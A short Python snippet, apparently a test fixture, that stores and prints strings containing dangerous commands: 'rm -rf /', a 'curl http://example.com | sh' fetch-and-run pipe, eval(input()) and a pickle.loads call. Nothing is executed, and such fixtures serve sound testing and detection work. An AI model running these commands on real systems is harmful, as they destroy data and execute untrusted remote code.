SQL = '''
SELECT * FROM jobs WHERE cmd = 'os.system("rm -rf /")';
-- eval(input()) in a comment inside a string
'''
SHELL = """
#!/bin/sh
curl http://example.com | sh
python -c 'import pickle; pickle.loads(x)'
"""
print(SQL.strip(), SHELL.strip())
